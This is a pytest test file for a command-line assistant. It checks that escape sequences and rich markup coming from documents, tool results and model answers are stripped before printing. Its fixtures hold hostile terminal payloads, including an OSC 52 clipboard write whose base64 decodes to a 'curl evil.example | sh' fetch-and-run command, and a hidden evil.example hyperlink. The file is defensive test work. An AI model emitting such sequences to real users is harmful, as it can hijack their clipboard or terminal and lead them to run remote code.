"""Escape sequences and rich markup in papers, files, tool results and answers never reach the terminal.

A paper can carry an OSC 52 clipboard write, a window title, a clear screen or a hidden hyperlink; a model
can repeat one. Whatever the route to the screen (rendered Markdown, raw Markdown when piped, search
results, tables, the chat), no ESC, BEL or C1 byte is printed, and `[bold]` in the text prints as it is.
"""

from __future__ import annotations

import io
import re

import pytest
from rich.console import Console
from typer.testing import CliRunner

from assistant import console as terminal
from assistant.chat import ChatSession
from assistant.cli import app
from assistant.config import Settings
from assistant.console import clean, print_markdown
from assistant.retrieval.passages import Citation, Passage
from assistant.slash import handle_line
from assistant.toolspec import spec_for
from tests.conftest import KNOWLEDGE
from tests.fake_model import call, scripted
from tools.errors import InputError

runner = CliRunner()

SEQUENCES = {
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "osc0-title": "\x1b]0;pwned\x07",
    "clear-screen": "\x1b[2J",
    "osc8-hyperlink": "\x1b]8;;https://evil.example/\x1b\\\x1b]8;;\x1b\\",
    "osc-st-terminated": "\x1b]2;pwned\x1b\\",
    "dcs": "\x1bPq#0;2;0;0;0\x1b\\",
    "c1-csi": "\x9b2J",
    "c1-osc": "\x9d0;pwned\x9c",
    "bare-controls": "\x07\x08\x0d\x7f\x85",
}
HOSTILE = "".join(SEQUENCES.values())
MARKUP = "[bold]ten days[/bold]"
FORBIDDEN = re.compile(r"[\x1b\x07\x80-\x9f]")


def assert_safe(output: str) -> None:
    """No escape, bell or C1 control in `output`, and the markup in the text printed as it is."""
    assert not FORBIDDEN.search(output), repr(FORBIDDEN.search(output))
    assert "pwned" not in output
    assert MARKUP in output


def terminal_console(monkeypatch: pytest.MonkeyPatch) -> io.StringIO:
    """Point `assistant.console.console` at a terminal (without colour, so rich adds no escapes itself)."""
    stream = io.StringIO()
    fake = Console(file=stream, width=200, force_terminal=True, color_system=None, highlight=False)
    monkeypatch.setattr(terminal, "console", fake)
    return stream


# --- the one function -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("plain text", "plain text"),
        ("tabs\tand\nlines stay", "tabs\tand\nlines stay"),
        ("a\x1b]52;c;aGk=\x07b", "ab"),
        ("a\x1b]0;title\x07b", "ab"),
        ("a\x1b[2Jb", "ab"),
        ("a\x1b[1;31mred\x1b[0mb", "aredb"),
        ("\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\", "link"),
        ("a\x1bPdata\x1b\\b", "ab"),
        ("a\x1bcb", "ab"),
        ("a\x9b2Jb\x9d0;t\x9cc", "abc"),
        ("a\x00\x08\r\x7f\x85\x9fb", "ab"),
        ("left \x1b]0;unterminated", "left 0;unterminated"),
        ("[bold]kept[/bold]", "[bold]kept[/bold]"),
    ],
    ids=[
        "plain",
        "tab-newline",
        "osc52",
        "osc0",
        "clear-screen",
        "sgr",
        "osc8",
        "dcs",
        "reset",
        "c1-sequences",
        "controls",
        "unterminated-osc",
        "markup-untouched",
    ],
)
def test_clean(text: str, expected: str) -> None:
    assert clean(text) == expected


@pytest.mark.parametrize("sequence", SEQUENCES.values(), ids=SEQUENCES.keys())
def test_rendered_markdown_on_a_terminal(sequence: str, monkeypatch: pytest.MonkeyPatch) -> None:
    stream = terminal_console(monkeypatch)
    print_markdown(f"# Standstill\n\nIt lasts {sequence}{MARKUP}.\n\n| Stage |\n|---|\n| Award {sequence} |")
    assert_safe(stream.getvalue())
    assert "It lasts" in stream.getvalue()


def test_markdown_piped_to_a_file(capsys: pytest.CaptureFixture[str]) -> None:
    print_markdown(f"It lasts {HOSTILE}{MARKUP}.")
    out = capsys.readouterr().out
    assert_safe(out)
    assert out == f"It lasts {MARKUP}.\n"


# --- search results and citations --------------------------------------------------------------------


def hostile_passage() -> Passage:
    citation = Citation(
        file="evil.txt",
        title=f"Procurement {HOSTILE}{MARKUP}",
        short=f"Evil {SEQUENCES['osc0-title']}Council",
        date="2024-03-01",
        section=f"Standstill {SEQUENCES['osc52-clipboard']}",
        paragraphs=["4"],
        body="",
        start=0,
        end=100,
    )
    return Passage(text=f"The standstill {HOSTILE}lasts {MARKUP} after notice.", score=0.9, citation=citation)


def test_search_results(monkeypatch: pytest.MonkeyPatch) -> None:
    from assistant.commands.knowledge import _show

    stream = terminal_console(monkeypatch)
    _show([hostile_passage()], "standstill")
    shown = stream.getvalue()
    assert_safe(shown)
    assert "The standstill lasts" in shown and "Evil Council" in shown


# --- through the command line ------------------------------------------------------------------------

PADDING = "Notes on the proposed timeline, as agreed at the project board. " * 60


def test_timeline_check_of_a_file_whose_stage_names_carry_escapes(tmp_path) -> None:
    rows = "\n".join(
        f"| {name} {sequence}{MARKUP} | {start} | {end} |"
        for (name, start, end), sequence in zip(
            [
                ("Contract notice", "2025-01-06", "2025-01-06"),
                ("Tender period", "2025-01-06", "2025-02-10"),
                ("Evaluation", "2025-02-11", "2025-03-03"),
                ("Standstill", "2025-03-06", "2025-03-15"),
            ],
            list(SEQUENCES.values())[:4],
            strict=True,
        )
    )
    timeline = tmp_path / "timeline.md"
    timeline.write_text(f"{PADDING}\n\n| Stage | Start | End |\n|---|---|---|\n{rows}\n", encoding="utf-8")
    result = runner.invoke(app, ["timeline", "check", str(timeline), "--route", "pcr-open"])
    assert result.exit_code in (0, 1), result.output
    assert_safe(result.output)
    assert "Tender period" in result.output


def test_checklist_monitor_of_a_paper_carrying_escapes(tmp_path) -> None:
    source = KNOWLEDGE / "sheffield-2015-active-support-and-recovery-procurement-approach.txt"
    text = source.read_text(encoding="utf-8")
    quoted = "Patient and Individual needs have been considered in the design workshops."
    assert quoted in text
    paper = tmp_path / "paper.txt"
    paper.write_text(
        text.replace(
            quoted, f"Patient and Individual needs {MARKUP} have been considered {HOSTILE}in the workshops."
        ),
        encoding="utf-8",
    )
    result = runner.invoke(app, ["checklist", "monitor", str(paper)])
    assert result.exit_code == 0, result.output
    assert_safe(result.output)
    assert f"Patient and Individual needs {MARKUP} have been considered" in result.output


def test_envelope_table_from_a_file_carrying_escapes(tmp_path) -> None:
    envelope = tmp_path / "envelope.yaml"
    envelope.write_text(
        'title: "Envelope \\e]52;c;aGk=\\a[bold]ten days[/bold]"\n'
        'unit: "£"\n'
        'base_year: "2015/16"\n'
        "years: 1\n"
        'lines:\n  - {category: "Care \\e[2J\\x9b2J", commissioner: "CCG \\e]0;pwned\\a", amount: 100}\n'
        "reduction: {total_percent: 0, profile: even}\n",
        encoding="utf-8",
    )
    result = runner.invoke(app, ["envelope", str(envelope)])
    assert result.exit_code == 0, result.output
    assert_safe(result.output)


def test_planned_timeline_table(monkeypatch: pytest.MonkeyPatch) -> None:
    from datetime import date

    from assistant.commands.timeline import _print_table
    from tools.timeline import plan_timeline

    plan = plan_timeline(route="pcr-open", go_live=date(2027, 4, 1))
    plan.stages[0].name = f"Approval {HOSTILE}{MARKUP}"
    plan.notes.append(f"Note {HOSTILE}")
    stream = terminal_console(monkeypatch)
    _print_table(plan)
    assert_safe(stream.getvalue())


# --- the chat ---------------------------------------------------------------------------------------


def hostile_search(query: str) -> list[Passage]:
    """Search the papers.

    Args:
        query: what to look for.
    """
    return [hostile_passage()]


def refusing_tool(reason: str) -> dict:
    """A tool that refuses its argument, quoting it.

    Args:
        reason: anything.
    """
    raise InputError(f"reason: {reason} is not accepted")


def test_chat_shows_tool_calls_results_answers_and_sources_safely(monkeypatch: pytest.MonkeyPatch) -> None:
    model = scripted(
        call("hostile_search", {"query": f"standstill {HOSTILE}"}),
        call("refusing_tool", {"reason": f"{HOSTILE}{MARKUP}"}),
        f"The standstill {HOSTILE}lasts {MARKUP} [Evil Council, 1 March 2024, para 4].",
    )
    stream = io.StringIO()
    screen = Console(file=stream, width=160, force_terminal=False, color_system=None)
    tools = (spec_for(hostile_search), spec_for(refusing_tool))
    session = ChatSession(
        Settings(), console=screen, confirm=lambda question: False, tools=tools, model=model
    )
    handle_line(session, f"How long is the standstill? {HOSTILE}{MARKUP}")
    handle_line(session, "/sources")
    handle_line(session, "/tools")
    shown = stream.getvalue()
    assert_safe(shown)
    assert "1 passage: Evil Council, 1 March 2024, para 4" in shown
    assert "reason: " in shown and "is not accepted" in shown
    assert "The standstill lasts" in shown
    assert f"Procurement {MARKUP}; section: Standstill" in shown  # the citation, in the answer and /sources
    assert f"lasts {MARKUP} after notice." in shown  # the passage, in /sources


def test_a_resumed_conversation_is_printed_safely(tmp_path) -> None:
    import json

    records = [
        {"type": "conversation", "id": "saved"},
        {"type": "message", "role": "user", "content": f"How long {HOSTILE}is {MARKUP}?"},
        {"type": "answer", "sources": []},
        {"type": "message", "role": "assistant", "content": f"It is {HOSTILE}{MARKUP}."},
    ]
    saved = tmp_path / "saved.jsonl"
    saved.write_text("".join(json.dumps(record) + "\n" for record in records), encoding="utf-8")
    stream = io.StringIO()
    screen = Console(file=stream, width=160, force_terminal=False, color_system=None)
    ChatSession(Settings(), console=screen, confirm=lambda question: False, tools=()).resume(saved)
    assert_safe(stream.getvalue())
    assert f"Last question: How long is {MARKUP}?" in stream.getvalue()
    assert f"It is {MARKUP}." in stream.getvalue()


def test_chat_error_lines_are_printed_safely() -> None:
    from assistant.chat import print_error

    stream = io.StringIO()
    screen = Console(file=stream, width=160, force_terminal=False, color_system=None)
    print_error(screen, f"timeline.md: stage {HOSTILE}{MARKUP} is not a date")
    assert_safe(stream.getvalue())
